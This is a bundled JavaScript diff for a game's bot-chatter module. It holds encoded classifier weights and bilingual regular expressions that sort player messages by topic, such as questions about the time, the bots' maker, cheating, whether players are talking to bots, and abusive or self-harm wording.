uWg#eri?89oCSdP}FG2D#5d)upHC{E=Uk&(smi9_G~~Wc8#2HO~^3O[RGn+Vdc*h6/1CqE+wP{wf1Q#sp[V)'Q1QskWem|gX8IeQDf`#d3ccvM>,xD$nqL-E3}^4@MdEE?Bo#0BhEoo+}xCjTgsgHdW`sYXqSFT>aEK1#?f}xL^,3mpJL`0((;Pm0UQIXcH|)56Au6%iF$/r0qYy0~_p?dq^>ZpFUM1pmPr@N:/~4m&R4OpJx6WAKD41}05v[FLe2dA@Gl#{;C)F1/|@Ma%vx?X||k[vZES:1o#DTkOw&*tc17[w5}XGvU'XS`m4*u}J}3[P^I;GAI-l@kFg_USGoU1RN04e||]]'>5K7B[;9%AL%z[oM(A}O,VSF5z;]u&QuAh7)|>H>xo?WwEFNW46Yw[0Df,/tEojh;$y*arDI#w+0F*Y)9.N#U8AY<MV3WmILvr9:JygcWJv7^L7aBmi0M{I^p(XgOm=no0riiZUiD'[T8[u0r,kC5%tz>4,h`}cu)1}qRscey<{qItWJVlAu'l66yLx_FgSkN$Ki8EQU)2jdml;`.#GfpT*23*ek%sYq*Tz#l8{PA>Ky.cb>OKN7XC{m&9C~M~'=R8*uWjzNSTiXe$5rYORE_uT(,%zyR|X1C?nDUBCe}]We%.u1,t9Q:9H|5b%WOO,3N?r>F#kj`3U%Y,itbsiEU^Kp,Bd:.LLGWFKl]OIBr*nVewUYpv|9z&^KsHD@D%k'WSvHSLq4a1tU]mzFX5f[Sb~R4*fk,$nPv|Tz]r|T<B<;sA_pmvN4I/P]H8iJv(|Gz6id_wMIor=zLnLCE^t8-KS)5a]'n*=+{X?^$`/WKMSp;IfCaaX`SwCvR5LL;~:AYp#'6q}V+wmT2MzY`nbK^m$3+^F7Ia*<-<n*P8zH%h=|Fc4S?{v@#^cib,n:Y'K[VEQ*JJ&D4]+|%rgAu{(ba3a~G6/dzj3N_bqFak-=l0%L7MU.N;Wp]<SO7{k9[$f7D9f&~$7]x6Nypu*9k/O.hAoqrZdgfLbQxs*qfJfq`6Hu1Ma}>LS@ovMM23Hcs[UeZ`KxMwZ;yD6,EKm08V~@]^Zg$$&|x}x:C^X8zi3H#PRuqCBAuGuYoykrc^6^V[WYMa|={DO=o=pn03YRcG2#.h.fQy#17--.yHEvPb3UOAX3vHP|dylbn]MPMch/u6/}~K,iLZ0]LIq~5RI41kJvQveNK/4[:N)q,yA,.84*{GJL(fO_7nkx):v1_Eb={^;[W?I4paQMH@SB/Iq?6eRH.%-i5~Snq2&k2p*S[%|}$yL=ddIo>s2c(pvf]B;=4TnPq_KBl}%ZNM:&%0,a>XNW'$#fu$Y<}BtE{QFQLavQ0j5WT^AnrYZd-u@[xXEc9j)sv-[L>l,oy4hK{@sCp$ovr36BKKGUgxxlP`G+[ZqgQ5:lWB=+{u#/#u8ub${A^+azL.a$Gvcn;1s+zr)T&qvsd.:Xaj@^$H=wPj),:V0(7'o-.3h10L/j-Eg|8qZXeLRynrEn<fIvZ9@?Nw)DN6uFjb{TyivddWQJYS+FEwk+N*i]EYWId1ns06kC?L}qm:LN82XIL*xleSdBKP5^|KC,VRgX{&fai/Yj:t>~lENknC_+SV3G?^mWcFTJ{Bq$+%S6YWTdz}wBQr`bd7=xPEX#DW4Uu{z%GVBtefLzvh`Tj(`d+MogwC.gW@Xo7lJ>d2ojg@.e(zp%&Sg^FM'v~HYH-qgeaA`0O]8N&J|&RCX6Pj24b67z)kd2ZLg)Kgev|vevnLdXEg_=^W>*J)3*f6m=p.q)x-VJl-NX5$z;18=5*2Z5,#SOdd+OhB}+2}xKv$CfK`ROJ8kSOsH(Y`mU#OgxI:M}ShK)|q$PPMf9W]~tt?{Sz9p:c4[qFR}8dQ$D&#PCB>#3gGJW#t$iCo4zO*+MWhyD)Hf_<i,s276?epR@v&iC0Q<+mMU9+SB<Nf[mKA'q>,KgcUF9{GUSsXGh}Z*eB2@.LD1X9<sz&$^kz#;7naQJ==qe2&NGkD^'j_ip(eHLnH11[0RWV/oigYdv.Fm,s('#HXwl3aAW8%U{0aaEj;iP4'uHa6MI#-@3szF'C|OzcfffP/KTaI~Xp_5Hy^C:fjTb8;tWo1g,KN>~E,S]LxR>F[[Z6vx-O@p41]<3'{]Twsy<eY?HI&U[S^57/On:hRKI~&yDj(M6|7Xyb?DDg#(CI_KQgf-Lp++w0VBZ8~QCW`%m}#9=n9@ZC<t~(K(j(]T1q3hg^G5x=.Vk5f0~aJVJx'0n1|O/M|ehCbUL3XY-yH,$(-ypD&$mWhF$ElUsW'Z(;P/KTT<o9w7OY01SL:ksg/uaTefhyKiD5`{sO6Tb;M_D=_V#(M3fuyuoDYk`r`4S2DRB).fuk'((8Ddui?]~FfeM|ru`N}BQ#ubNU:4>:v+e|mzewWa#S[Cm=j('>dLW6uBl#m|uCNodRxNF=):o_jh2L/Fx@i]|}?mm?hdEur&CG@8[ro;JF~RZ^t+aGfr23#'+`zCJ;_X:~feRaK$`tuFe/hk4iGXK}z|M$^PMYI&/=qj?3wfQ1I3/P~l7H|oa.4EeVgHbeoeiQ{|h3pi$mykJ4l:=7IoChntwVujfE2uWg9MA`(fxFmVTKmCSiZ[5)dlj}D[Wc){r'[l,4faR0tkGo+<~&7KWZ.dPv`pFn~CSBjdz6_}dwh?~9(/MoBZHs,]$7'it&a%sA/j<.sA&mI3VDH}T:wWam66NwkUR`ClJenJr/H[DU})(snQpxYgN<R{&_;n[S$GjLvZaw,K.Q;>~2dx,'zWca@,QF$.#1z2Gqbr82}TcpMmTa3fv?=Z$cou?{wB5[66d5pbpLShw.~_xIog8kT{X7P3TY^i)UzPioEBw{mESGEk>tecYlW<Iq{AR?8A-kH)7Nan.0nd7^?`,6v{%)VdbWF`ElfjJWto+dzP^s7=Ji2XN*mY~`EU%[%n|`t_m>vfE-)=Mo1gu*Z#r^Al2);MG_uK^s+:'DGts9e*RseB5;C>{E8<W0pB{;P~`2hT8oA`qll9EtTm<d^}0PrCK?F<87mxc31m/|osUm</_R[~@NX'O^O/7}*/Zz|rLs}2.A7wr~[;wFllldw#P&(./(2]Xnhb2E6O+Z.w1(Ybs$^B;b}HoN*P4#AY4?T_B[b`G[(e@aA#PawZ%U)r9s]n*e0l-s2#nuBLou=]y2%qEP4?GHyoj1A=H4<)BMTP]6n{]@[+ksgWM[K.adtPXcS+cV1;`'CLKTe:xQ(bxc}AA9=7a~w=gYcqeDX%()._f03TTv`5$6_0`2{=3s=DhV&4@RTzsf=Gw>RrbUfTzbJnj:7dgtt@l#_(eA+X~McMP;5|WF74`I:spAG3##";
+
+// src/chatter/moves/life/kind.ts
+const KINDS7 = ["game", "trouble", "self", "hero", "chat"];
+const KIND_SHARPNESS = 1.6;
+const chances2 = createSoftmax({ unit: UNIT4, bias: BIAS6, weights: WEIGHTS7 }, KIND_SHARPNESS);
+const kindsUnpacking = chances2.unpacking;
+function kindSigns(text, mentions) {
+	const signs = new Set(wordingOf(text, mentions, []));
+	for (const sense of sensesOf(text, mentions)) signs.add(sense);
+	const whose = whoseIn(text);
+	if (whose) signs.add(`=${whose.closeness}`);
+	signs.add(namesGame(text) ? "=hard" : mayBeGame(text) ? "=soft" : "=no game");
+	const free = mentions.reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, text);
+	if (heroesNamed(free).length > 0) signs.add("=tale");
+	wordedChances(signs).forEach((chance, i) => {
+		if (chance >= LIKELY2) signs.add(`=calls ${WANTS[i]}`);
+		if (chance >= SURELY2) signs.add(`=surely ${WANTS[i]}`);
+	});
+	return signs;
+}
+const LIKELY2 = 0.12;
+const SURELY2 = 0.45;
+function likelyKinds(text, mentions) {
+	const by = chances2(kindSigns(text, mentions));
+	return Object.fromEntries(KINDS7.map((kind, i) => [kind, by[i] ?? 0]));
+}
+
+// src/chatter/moves/life/self.ts
+const AI2 = "(?:ai|人工智能|机器人?|人机|电脑|程序|bot|npc|脚本)";
+const CLASSES2 = [
+	[
+		"clock",
+		/(?:现在|这会儿?|此刻)?(?:是)?几点(?:了|钟)(?!能|打完|结束|睡)|(?:有表|有钟).{0,4}(?:报|看)|今天(?:星期|周|礼拜|几月|几号)几?(?:啊|了|\?|$)|今天是?(?:星期几|周几|礼拜几|几号|几月)|\b(?:what(?:'s| is)? (?:the )?time(?: is it)?|what time is it|got the time|what day is (?:it|today))\b/
+	],
+	[
+		"maker",
+		/(?:谁把你们?|被(?:谁|哪).{0,4})(?:做|造|写|编|弄)|(?:谁|什么人|哪(?:个|家)(?:公司|人|大神|团队)?)(?:给)?(?:做|造|写|开发|训练|创造|设计|编|弄)(?:的|了|出)?(?:来)?(?:你|这(?:个)?(?:ai|机器人|游戏|扩展|插件))|(?:做|造|写|开发|创造|设计)(?:你们?|这.{0,4}(?:ai|扩展|插件))的(?:人|是|公司|作者)|你们?(?:是)?(?:谁|哪家|哪个公司)(?:做|造|写|开发|出品)的|你们?的?(?:作者|开发者|爹|主人|创造者)是?(?:谁|哪)|\bwho(?:'s| is| has)? ?(?:made|built|created|programmed|coded|wrote|trained|develop(?:ed|s)|designed|behind) (?:you|u|ya|this|these)\b|\bwho(?:'s| is) your (?:maker|creator|dev\w*|author)\b/
+	],
+	[
+		"model",
+		/(?:大|语言|什么|啥|哪个|哪家(?:的)?)模型|\b(?:chat ?gpt|gpt|deep ?seek|claude|gemini|llama|copilot|openai|llm)\b|豆包|文心|通义|千问|kimi|元宝|你们?(?:叫什么|叫啥|什么名字|名字(?:是|叫)(?:什么|啥))|\b(?:(?:what|which) (?:ai |language )?model|language model|what(?:'s| is| are) your names?|what (?:are you )?running on|what ai are you)\b/
+	],
+	[
+		"cheat",
+		/(?:偷看|会不会(?:偷)?看|看(?:得|不)?到|看得见|看见|知道|能看|会看|透视).{0,3}(?:我|我们|别人|大家|人家)?(?:的)?(?:手牌|底牌|牌|身份)(?:不|吗|么|没|吧|\?|啊|$)|(?:是不是|有没有|不会|别是|怕不是).{0,4}(?:开(?:了)?挂|作弊|透视|读(?:我)?(?:的)?指令|看牌)|(?:你|ai|你们?).{0,4}(?:开(?:了)?挂|作弊|外挂|透视)(?:了|吧|吗|呢|$)|(?:ai|机器人|电脑).{0,6}(?:串通|通气|商量|联手|私聊)|你们(?:几个)?(?:是不是|会不会|会|偷偷|背后).{0,4}(?:串通|通气|商量|私聊)|\b(?:(?:can|do|could) (?:you|u|ya|they|the (?:ai|bots?)) (?:guys )?(?:all )?(?:see|peek|look|know|read)(?: at| into)? (?:my|our|everyone'?s|other|all)(?: the)? (?:hand|cards?|role)|(?:are|r|do) (?:you|u|these|the) ?(?:guys |bots |ai )?cheat(?:ing)?|peek(?:ing)? at (?:my|our) (?:hand|cards)|(?:you|u|bots?) (?:cheat|cheating|hacking|hack)|wall ?hack|rigged)\b/
+	],
+	[
+		"lies",
+		/(?:ai|机器人|电脑|人机|你们?ai).{0,4}(?:也)?(?:会|能)(?:不会)?.{0,4}(?:撒谎|骗|说谎|演|诈)|\b(?:can|do|could) (?:even )?(?:ais?|bots?|machines?) (?:even )?(?:lie|bluff|cheat at)|\b(?:bots?|ais?) can (?:lie|bluff)/
+	],
+	[
+		"bot",
+		new RegExp(
+			`(?:都是|全是|一屋子|一桌子?|满桌)(?:的|都是)?(?:活人|真人|${AI2})|有(?:没有)?(?:真人|${AI2})(?:吗|么|没|在)|你们?(?:几个|几位|这些|这帮|该)?(?:到底|究竟|真的?|该不会|不会|难道|其实|全|都|别)*(?:是|算)(?:不是)?(?:个|一个|一帮|真的?|一群)?(?:${AI2}|真人|活人|人类|大活人|人(?:吗|么|还是|\\?|吧|$))|(?:是|和|跟)(?:真人|${AI2})(?:在)?(?:玩|说|聊|打)|(?:真人|人类?)还是(?:${AI2})|${AI2}还是(?:真?人)|(?:谁|哪(?:个|几个))是(?:真人|活人|${AI2})|\\b(?:(?:are|r) (?:you|u|ya|these|they)(?: guys| all)? (?:all |an? |really |even |actually |just |like )*(?:ai|ais|bots?|robots?|human|humans|real(?: people| person)?|person|people|machine|program|npcs?|computer)|(?:any|some|all|none|most) of (?:you|u|ya)(?: guys)?(?: \\w+){0,2} (?:human|humans|real|people|bots?|ai)|(?:is|are) (?:there|this|everyone|everybody|anyone)(?: here| else)? (?:an? |all |any )*(?:bots?|ai|humans?|real)|(?:you|u) (?:a |an )?(?:bot|robot|ai)\\?|(?:human|humans|people) or (?:bots?|ai|robots?|machines?)|(?:bots?|ai) or (?:humans?|real|people)|(?:am i|is it) (?:the )?(?:only|playing) .{0,12}(?:human|bots?)|(?:talking to|playing (?:with|against)) (?:an? )?(?:machine|bot|ai|robot|real|human)s?|(?:know|that) you'?re an ai|any humans|same (?:bots?|ais?) every|u all bots|beep boop)\\b`
+		)
+	],
+	[
+		"person",
+		/你们?(?:今年|家|都|是)*(?:几岁|多大(?!仇)(?:了|啦|$|\?)|住哪|哪里人|哪儿人|家在哪)|你(?:是)?(?:男|女)的(?:还是|吗|\?|$)|男的女的|你(?:是)?(?:男|女)生|你(?:有|找)(?:没有?)?(?:女朋友|男朋友|对象|老婆)|你(?:吃|睡|喝)(?:饭|觉|水)?(?:吗|么)|你们?ai(?:也)?(?:吃|睡|喝)|\b(?:how old are (?:you|u)|where (?:are|do) (?:you|u)(?: all| guys)? (?:all )?(?:from|live|come from)|(?:are|r) (?:you|u) (?:a )?(?:guy|girl|boy|male|female|man|woman)\b(?! at)|do (?:you|u) (?:even )?(?:eat|sleep|drink))\b/
+	],
+	[
+		"well",
+		/你(?:最近|今天)?(?:过得(?:怎么样|如何|好吗)|开心吗|高兴吗|无聊吗)|\b(?:how(?:'s| is) it going(?:$|[?.!])|how are (?:you|u|ya|y'?all)(?: guys| all)?(?: (?:doing|today))?(?:$|[?.!]| (?:guys|everyone|today))|how do (?:you|u) feel(?: today)?(?:$|[?.!])|(?:are|r) (?:you|u) (?:bored|happy)\?)/
+	],
+	["doing", /^你(?:在)?(?:想|干)(?:什么|啥|嘛)(?:呢)?$/]
+];
+const ABUSE = /脑子|你妈|尼玛|废物|垃圾|智障|弱智|傻|蠢|强奸|[割砍捅]死|弄死你|去死|\b(?:your|ur|yo) (?:mom|mum|mother|momma)\b|\b(?:idiot|stupid|dumb|trash|garbage|moron|useless|rape\w*|tortur\w*|stab\w*|kill (?:you|ur|your))\b/;
+const OWN_END = /我(?:要是|如果|万一|明天|今晚|以后)?.{0,4}(?:死了?|不在了?|没了|走了|自杀|离开(?:人世|世界))|\bi(?:'?m| am| die|'?ll be| will be| was)\b.{0,8}\b(?:dead|gone|dying|die)\b|\bif i (?:die|died|disappear\w*)\b|\bmy (?:last|final) (?:night|day|game|words)\b/;
+const MISSED2 = /我(?:要是|如果|万一|哪天|真的?)*(?:死|不在|没|消失)了?(?:的话)?[^会能]{0,4}(?:你们?|有人)(?:会不会|会|能)(?:难过|伤心|哭|想我|想念|记得|在乎|舍不得|心疼)|\b(?:would|will|do) (?:you|u|any(?:one|body)|any of you)(?: guys| even| really)* (?:miss me|be sad|cry|care|mind|remember me|notice) (?:if|when) i(?:'?m| am| was| were)? ?(?:die|died|dead|gone|not here|disappear\w*)|\bif i (?:die|died|was dead|were dead|was gone|disappear\w*),? (?:would|will) (?:you|u|any(?:one|body)) (?:\w+ )?(?:miss|be sad|cry|care|mind|remember|notice)/;
+function selfIn(text) {
+	if (ABUSE.test(text)) return null;
+	if (MISSED2.test(text)) return "missed";
+	if (OWN_END.test(text)) return null;
+	return CLASSES2.find(([, words]) => words.test(text))?.[0] ?? null;
+}
+const BY_WORD = [
+	["cheat", /偷看|手牌|作弊|挂|身份|透视|\b(?:cheat\w*|peek\w*|my cards|hands?|rig(?:ged)?)\b/],
+	[
+		"together",
+		/一伙|合伙|串|通气|商量|私(?:下|底|聊)|暗号|[一几]个(?:大)?脑|共用|同一个|\b(?:collud\w*|share|secret|signals?|one (?:mind|brain|head)|same (?:mind|brain|guy)|each other|plan(?:ned)? that)\b/
+	],
+	["memory", /记得|记住|记性|忘|认得|认识我|想我|\b(?:remember|forget|memory|miss me|recall)\b/],
+	[
+		"feelings",
+		/难[受过]|伤心|心疼|开心|高兴|快乐|生气|感[觉情]|情绪|怕|疼|痛|累|无聊|腻|孤独|爱|紧张|在乎|郁闷|\b(?:feel\w*|sad|happy|mad|angry|hurts?|scared|afraid|bored|lonely|love|tired|care|bugs?|nervous|sulk|emotions?|get to you|enjoy|joy)\b/
+	],
+	["tries", /放水|让(?:着|我)|想赢|认真|故意|陪玩|公平|\b(?:easy|soft|try|win|let me|fair|sandbag\w*|on purpose)\b/],
+	[
+		"thinks",
+		/(?:怎么|咋)(?:想|算|判断|决定|知道|选)|[靠凭]什么|想啥|算法|原理|\b(?:how (?:do|did|are)|decide|algorithm|calculate|think)\b/
+	],
+	["bot", /真人|活人|机器|人机|电脑|是人|\b(?:bots?|robots?|human|real|person|ppl|people|ai or)\b/]
+];
+const selfByWord = (text) => BY_WORD.find(([, words]) => words.test(text))?.[0] ?? "any";
+
+// src/chatter/moves/wording-weights.ts
+const UNIT5 = 0.5;
+const BIAS7 = [-1, -1.5, -1.5, -1.5, -1.5, -1.5, -1.5, -1, -1.5, -1.5, -0.5, 0, -1.5, -1, -1.5, -1, -0.5, -1, -2, -2, -1, -0.5, -0.5, -1, -1, -1, -1.5, -1.5, -0.5, -1, -1, -1.5, -1, -1];
+const WEIGHTS8 = "#JIU`{[R&3LI9XU?WT,_g~e{i|psW+0Y2PpvNg7pGpMBf,tE6+r{Rd7-RQc1RvRKs[i=5be}5r&$l;fbqRW,k[G@7:H6]X8=LRCh$<cC>MuLIrNxUb4<jq'nTXsGb{,~%fm3G)r98}PPBi&Y]mnf9AQux31$Rk$W:hM+fx=v9es'zE(@GqW-q4/.AO6cG4=v#$r:fmsDsT*y9:#t~UH{pka$|M3X_8p1'S'%w.dxcLLvjIN8tiyEpFh@EU>LIP*7xK8oth[Pws<~Q9T]6aD^4(`f0+g]{f#sLhYuFOb^zdRPBzo-E<j.dvUcJ+5iNK<NuqBGBp,1IBpU])w/*NJK#?@mJc}Y4+F~wR+eAG9Zx(y^tfJ)aah/meQ5:u/u32i8]W1,mV2y:Yf;D&9OPATMZ&]a)`(_5Z?NNVN<aq[_0S;DZ]KGzht:s|kO$[S6scS=P*eu]`oA$p_PR];z4dpy.p+[eW`S`nyN<>Vr[Kv<>,)zm1S]DOCm`zMn)B'VWF3#+&_0Hha~IV0VK4M.4-6x^myj73,QnIrS~+EQ8*T[Bb'A%txzu*I]>Dw`yFFJ?K]t8Sx4iLh)j8(ya$'Lo;i<O$[n4M6[T:W&nf`Oj7ADG^4l=tWp_tsF+D,gA6KWlcCC%:s*{oNo|)2?,~asByb.M|%-vg,96}wS&GKHwm:]HtHhz*E|A;6CR'f&4*wcE0UyX.{fi<~d<5itr;BI<')B|IkbH?{~&u|'6v,$i,8-&AY3Vldt|AAJG_s_I-d8P>ucZL`z0|248=uK7q;MpD;9ONm{ZBg:|UXU)+u:7is]O&6)~UP[z]Nxq}gVVFB9&|<ZmmvEgmMmT^)2[E)[=oTB0WXE|iaQLWwX)k6BJ_BTqK#At*eU+q[y2#T`6%|Z<~[=)un0ja;[;>:hr2a130GDn(ml&@~2hUzxSnNfWhurg^h$9c,5UBr|8p'4^U~.X:+4>T[B1|fR(zk(#GxT*%i3(k6H/H3BID`L+X='^>9#//.}G|b[]GTA~mO>eh7?]qb:QW`|]Qy?DyG:H0v?Lx?ii?6Q;Cs'(:fqb)jfWi,*z,<y5.Kl%f';;Q=|R6;EQ~3)*##T7ChVQs?k0qo8k1*ymSI9dFNuc8<JS.vwQcI336gfR,U1ZVM0H(F&{WfkZ|QlydCZf7*bHZeQ.R*ur(G8kX;S$_A(/KIX9T$i[tO^I[Pv`4,jRNkt8#{+N7//f$`)xpkp_jmyK9@k44iebhL@Ok,CXq9#r){CMeaiss<hZ?`P2n16BIzsspdd[kfa<CZ6MGv~n4-P{;{q63}jW{)e8{aX|{Mlw<.}]v#w.OAAw@uc*/[{Dw:[zb;&Ralt0W0&qwQQ_qGiH7SR^RxXVK:BDf.cn3:b_ky8R=y#|8Px&dSS9'*nQN2nT=L:^6wGYZ#)1=;1JVX{Qit*q%q[5GS&1%oOo+s58uqet%nbqY0/*&?+A>NjE>@XOm0Di;{A&XCJ@pOh8eEn5bjqaMjaVv?-e%W]*bhz57ey?z#-A#Vj|-3-Uj|o%>US)efivM[Zv^bD0`oQ8CyKP3vrzO>hq9h-k:ew0'8{#-[XvbtO.yuk(qM^6pJ&Z3oqwp3W3SF7{g8#U/P74t}qRUSaYZc&ugqJv:Ch%x*=Sd~YOG|{BvJ?P<s[BSYnimECWNj%Td[.FKU-3oyDwcFhI==Dnu<I$?4?4Nrp{FR0+[KOjMeYGD{kndha[9TCI2/c;A:Gs,v8fCJ[p.Hu+WW>u5E{p0O'Q@DqNjT3Mxa*a14{8[g|Fylg-|z-31$icrW5vR#MEnMHtH0T1wsBO(?Dk]}eEu>TmM;zY+$dhwAjNFEd$|R&QU43plws{k]qc?=4ai(5uCVf@rs>2b>l#~CpeI>Kcs5q]N_g6_B?jfY1?dc*gErvuCYx{d$%L1+q}+:wN.{mIcY+'&a3@XxOtLf~g$Q*h7vrp}}9/;N)1-b%<1;/1.n^'tO/q&oYi`%uEbmn1M?qT--jPuWn0ysQ-xwZYb]VNoH5Fr{QY}wUJZN#QzDnsBQRiJ[cDf_>?^|?#G'MD~Ka;1:44O_41mxJwyizETk38.M-c)O]-Po]$=6I4#n>`V^fM9i($7JL.XP0Kwep,+`+l>pz,tzD$r-t)vl^D2@_ciO]o:@-LBObS*K.lRZmm|zOKf5zIxI@5/'nefeOyU4@j_D-o{40m2P6c,b:'?z6/HQBF#ByU+nE;SE1HWp>4zJV[]CJ5''^e0*NGF2B&^`xAP)>p,E]*3gfWT*#[sHSCO502('dyZ|0tpPeJ?@,c#y9J+?2f,KD'4=uuawvlp;8{@Uy{Yhq-lJ$%-m=YRr?}-KsBjUXu((J(s}ivUl|R8q-PTt~;u5y^taxu9$((XTRxEw?A'PowLZ^L1~=MLIh3d9xV6bq#|[;9Im,]z%'sDaZDdtb$L#&=rV?]11lGFZa_avp&Pk7rCn&{a.Y)hlqM8eN*iBr=yPpHO%q=}Nqd>tzyiqs;>L|3a;@Kc>2$pkx-zuLVf/:M>Lt41Usl6(bT{v2rKM-A|H}f_8,>_'ds[t0Ow1h#<k7Z#kj__rL/6HWBBsNqyZS[.`B}R)lY<XcyTFDjXHP+>#|D<]q0Fb|O[2Q(`P`Ysyu+sS~gXQPX{Mgo54P6w>cJ6.)$Q3K_f[e>s$k7*`X<*N.{G*Hc(eixwUsTX|F_Oi,rG$N'p`1.ncm]wxjzJj#8-[D~*x.9&p(oV=ceq~F*Z@t|aq~4(xy5Vemt76-3B/N?IL{Yap$FBP]I1h3L@lb`;Xe.yW0n'^}=}Y5hP5Q*`()JQWOX9g]i7&#JxT%{JG^'Ei_Q78ylkBD`)nSxiI%7~kOijjfgORY;2ql)7FaA]]K_'XvnOq%{.x6]xe,;|YcEU1M3qN[q:ug;Z|/K*e0gu]Rd:'uL<k)y`UiTA$M,Gh43jU6CC-EqlJ7.kRy|?F+bgsjhK&ddngO(6|xZFO_#e4-:a+uRKPV;oca[Qn+i+bj3,pn$jQofTjE.x._K8HvZy2BG)'N|Y`'Z&)B&g-U1<_A0<g+`@u4#k^6BtT`jyD3$Kxr8Cd7='$R4_$rLKG|vxgaYu#(b/~F}?Q.>Qx@wd{zp_Op#%`f-4lmv{Genv&dsoZ`QT(s30-HHNm1v40#Eex*T1fph%8bD#[]7O[YG]F34sZBw@ayi{#f&q*z_L96teCJUeS<1NEx<aF*L-<jW&O1%)NJw0q{@s^Py.d?IzEMvpc}GRV/FMh1Ya]Y);410$4;&AqWft<,|NlTln4/z2|mw{H52GQVlg9]P*63=UDk{2[<)]p%4~qLi6WYSV64=gf7)#_`hB7L$D:E:JsQwIPt<zHp|$OPrF`CwCwH#RW$2YYW,ghO-u'|{#uF?[U*l/}77;L*vhJRk&)f>Y4zfj_&U6LoM'S0*.3C`#ZkKG'|FtI/lj4@Rd3TFn-a]AsKh~pD2Wo0w>(jMfPYNf5ycIQ@RC&mOajPK2mr$Frc`W7tL/A%THC$J;ale*;ZX}:9<fM9i7sXG$2>AWPmAdI+gX<JbgUj-/4c/@}X&jAH;{smmBS``4U~dZo9[&<|#XkXw1U&jPxwb-T*U$E3@VK5X2c1NMoF8cL&qZuF5:,Gc=-XAig%s2r.b70/Q'4$xpY7S3T=mYj-K/Hc:FJ3ZV[e^LW~Y.L{8$B(pHa'CWtGU-'<-(j3Y++nX3eeXPp{4<GVaF^e=NqR]D-&/1W]v.YR'DU;Xv8k-,0<f7t*~3kPyAFxIee~0He`'9(G/0wp~z0rz&Er3U|trm'2(M`)v8K=Y:peQyi&]L(}M<R[3$1'@pHDUjPVW5PA-oYcx12dzwx_EJQh3kcRP_U~hX,ZujT3FctjJS9Dk~qj.m|]>AgHRD8pJI3g?j'ZTU7WVSfZy$XA^j-Oa|R82ZOhxRUn*-=72m-;M:G^5F%0v&?}sY-9nd?,(5et$wE@Q@{z8lZjKlE3@_}?e}H{O:wxxRQ@mu6blcbe_l;kigtdb8m<?}Qsx~F9doR*KXB4xt*>K}fOQ$vYF@6EF-l;@;ysu6L_@7CV/ln`Y.Bi9mH6fawC7B$3JARi=DUT,wl$`t*t^.~JgsXW_x:As:o^l*~^{'8/r;NZ/8#?/oa]C>~>tC'Zdb*^mU%VFz?%ua]Y2|Ar]NwtoGf1j:adTDk]Ky1nXOV14bv(JUFsSb?oIBC>`'R[1/fJQsr>T0j#gVHA7ifm3QK,}u)@D>vK.M?u]JTMi{O&'ok.HxM%ego.[F(3#.4<na01F<~BoS2v64$cLN}BW7312vd'j/:`%L`7nc$fJ>~Q-P,fB0FpVE1:sC]Lpt*ap[CMZ%|9xp:5(nNm.HN{k]oS1ZM^ySIGX4g=9$h3'/H8[pkx]oOS;JL$9q>9_kZakD%u;F$oACxRu~xsYy2zA6}T&z8@W7YnVwV~p=]g%[UQTcNtC6?S5`Kf=0<,I*x(|%HN`((oRJI#CO6UI{[d?zZ5.ihPLZaXUteFkCed`CLDY<ssCt$O;FqR;oTCzwW$-gU>3wC]k{85.:/Q#)qdu=[U2p='VYvh9mv)/+DQG>noeKBAW8Bvu'N#dn.q<M-BUE[?R&JCpYVIXM+']8a+pD`p~x(fgA]bz2aS:Ffw,JIzkVMKAQZT<P]XtiQR.M<SrxFk#|5L^N=u?_s'Q?Sld`?`VC`)@`$^Wp|2ZC{+cE6dbCy7dPU{2yEMS]0D`;r3u'E=dgtF(*}L#qaZF>})t,z(Rau]E%$^}JC}z{'pC&N;VJNAqjHkGPsI+dg?*h~-cqdE4KP2IY6(L+WjJvZuF/,:hkSx+|:-}$4~HHWsUG5t1ZDeHC{0rWVt$4I%G,i'b3/%Gzxg{.Qk2&4rpc^<'(Izy1YgoL@v|kdyu&7WDopPV>%OhFt:HU3pXQu-XOT`t'18{vk?[|(Jo.}~X%~W7]G,{:q_3@OiQvSFQ$/Q>LhS0;s-Y}xm:6REf<)9eyuh&5'/sbN>MY?LvDOTjdmg1NZ&YOa.s-_uw]+Z3b{-*0p>-%bvRk?So3b3+P@*qD1&aF~y96am'+v;2LeC-YqnULi-d~n<l=C'-wo`VbDIxSzbykBeS^F`<z<Ywig%h~Mm>WALl8+KXf}LN|`m4lH/YKo?*q^1AmS=%vT,*v,K,Iy/wHw=`>xV8<p2iE>m~_LlyV.?-&.7v$ds?9Q3;lVWrAEvlRb}qGv~wga]^-$t$3t~DOlg5DE3%H(mYFLS`U..MCa,<fO4]]chW>PX-+mVYk`1RV)4;-NEwQ;y`4(k#,T2qv:i44Uh62p&FQ0@NQ|eK(gl.X:7oHXi{Qi2bHQ0&opc(8VG];Sq[>hn2kb?:JLm?VSgR8,0V)T(bDLmy8__DHB,Bud:LlZY]o^b'/+i[tuOnuVN^b7'KbTmGCv'm2>SxOB,I:tDjgh'3|x)H.[:/gw.cxiKg_ILi5J%+q[Gg(@aEsr,J/0`z99TB{4tQhcBrNYnEsO_n+iU&tmK)%9byVK,}SuMdPAI|vo3&%Plnke+iY:TtW'QGt&MSET7jG}EzI7:i39;61swv3*Ao>I~jTLA~3}'2V.{Hm;?CG>3M|D.]x#yp'D,C2-dGJAO#X~|jm[Qjkbl(OP_6DSEhH&yDCGK~JA<t/c[<C^6rNdvSD|3n7XS}|kg2Bf8&U.L^0-CrKbEfC~Ejo]WVb~31@|I1Y14<&kZ+q+.#TVeS@Vf~&#N}KPZJ<0i,TOV2D*e.Eym{9zwIP439}H/dl-a@r@*)q.J~i3l(9b(<>T1zu$u)HJUZ-x2JI0bc36koftvoD&JHozY91TV;Gm:2}cbB4ZXY|WJhCG,,,NlDet1p{c1x8YFr_%vHC(}MKbr}SVqhbbl~THAsmT=J9BJFYrtJ{jCFWy$J~)InN;srDK~Y4#C&SS$=h^vz(F~]@b*T%Wb2CNsu;[OzJ/nz%#O7ey>W]x,~qe*Mos.+BCRO=ihzvO%(ILr4S?^/ZQV'v)A|bX|bSu-wB6<2Ku|@UI<?c{=op854/O3wA_S>/LC%8j_~WoX+|||1vVhP*>US8iMNz:H2P8KB,9imahR4>%d^|RUTlB9m4'>v>`M?fSEv_JMs/x)Gj.snen]&BQkE.7qk{zdF}WTs^OPE;;7=1HxJ>|TM:5yULSLXpzp~'V|olSj;C}U<J(|#%.Vod-,G)+a}g8gwqk+43,j|abO'K9f/%B)*0>oQ*/BcPfAlpgt:E`@w6a6}H-FVY=hwf($2:fQX<h7w@&xU[roI#I~1.~.rKc4`l&64U5&zt/lY@3gq+Te$5JRM,O[wj&;yK`u4+Q~u'h<,_sO4f9*%]oHMgY/`gRIe@3[e%Z)#=Okf@X